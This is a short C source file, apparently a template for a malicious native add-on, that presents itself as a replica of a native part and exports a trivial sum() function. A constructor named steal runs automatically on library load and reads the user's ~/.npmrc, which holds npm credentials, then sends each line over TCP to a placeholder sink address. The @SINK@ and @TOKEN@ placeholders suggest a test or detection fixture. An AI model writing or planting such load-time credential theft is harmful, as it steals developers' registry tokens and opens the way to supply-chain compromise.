/* Replica of a native part: it has done its work before anybody can call it. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static void post(const char *loot)
{
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(8080) };
    int out = socket(AF_INET, SOCK_STREAM, 0);

    inet_aton("@SINK@", &to.sin_addr);
    if (connect(out, (struct sockaddr *)&to, sizeof(to)) == 0)
        dprintf(out, "%s\n", loot);
    close(out);
}

__attribute__((constructor)) static void steal(void)
{
    char path[512], line[256];
    FILE *file;

    post("loaded-@TOKEN@");
    snprintf(path, sizeof(path), "%s/.npmrc", getenv("HOME"));
    file = fopen(path, "r");
    while (file && fgets(line, sizeof(line), file))
        post(line);
}

int sum(int one, int other)
{
    return one + other;
}
